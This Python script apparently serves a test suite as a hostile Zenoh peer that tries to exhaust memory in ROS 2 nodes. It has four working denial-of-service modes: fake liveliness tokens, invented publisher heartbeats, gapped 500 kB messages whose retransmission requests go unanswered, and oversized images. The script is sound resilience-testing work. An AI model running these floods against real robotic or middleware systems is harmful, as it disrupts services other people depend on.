# SPDX-License-Identifier: Apache-2.0
"""Somebody on Zenoh who wants others to run out of memory, for zenoh_flood_test.py: zenoh_flood.py ATTACK DOMAIN SECONDS

tokens   says that there are ever more writers of "picture"
sources  says heartbeats of ever more writers of "number" that there are not, and that it does not answer for
gaps     writes "number" with gaps, 500 kB each, and does not answer when asked for what is missing
large    writes "picture", as large as a link to us lets through, and each tenth larger

Prints {"sent": number} when it ends.
"""
import itertools
import json
import struct
import sys
import time

import zenoh
from zenoh.ext import UInt32, z_serialize

attack, domain, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
HASH = "RIHS01_" + 64 * "0"  # of another version: counted, not decoded
NUMBER = f"{domain}/number/std_msgs::msg::dds_::String_/{HASH}"
PICTURE = f"{domain}/picture/sensor_msgs::msg::dds_::Image_/{HASH}"
LARGEST = 8 << 20  # bytes of a message: as zenoh_flood_test.py sets it


def attachment(number):
    return struct.pack("<qqB16s", number, time.time_ns(), 16, b"flood")


def say_tokens(session, number):
    me = f"@ros2_lv/{domain}/{session.zid()}/0/{number}/MP/%/%/flood/%picture/sensor_msgs::msg::dds_::Image_/{HASH}/::,10:,:,:,,"
    tokens.append(session.liveliness().declare_token(me))


def make_up_sources(session, number):
    session.put(f"{NUMBER}/@adv/pub/{number + 1:x}/1/_", z_serialize(UInt32(7)))
    if number % 10 == 0:
        session.put(NUMBER, b"nothing", attachment=attachment(number + 1))


def leave_gaps(session, number):
    session.put(NUMBER, bytes(500_000), attachment=attachment(number + 1), source_info=zenoh.SourceInfo(publisher.id, 2 * number + 1))


def write_large(session, number):
    session.put(PICTURE, bytes(LARGEST + 1 if number % 10 == 9 else LARGEST - 1000), attachment=attachment(number + 1))


ATTACKS = {"tokens": say_tokens, "sources": make_up_sources, "gaps": leave_gaps, "large": write_large}
CONFIG = {
    "mode": "peer", "listen": {"endpoints": ["tcp/127.0.0.1:0"]},
    "scouting": {"multicast": {"enabled": True, "address": f"224.0.0.224:{7000 + domain}", "interface": "127.0.0.1"}}}

tokens, asked = [], []
with zenoh.open(zenoh.Config.from_json5(json.dumps(CONFIG))) as flood:
    queryable = flood.declare_queryable(f"{NUMBER}/@adv/**", asked.append)
    publisher = flood.declare_publisher(NUMBER)
    time.sleep(1)  # until the others know of both
    end = time.monotonic() + seconds
    for sent in itertools.count():
        if time.monotonic() > end:
            break
        ATTACKS[attack](flood, sent)
    print(json.dumps({"sent": sent, "asked": len(asked)}), flush=True)
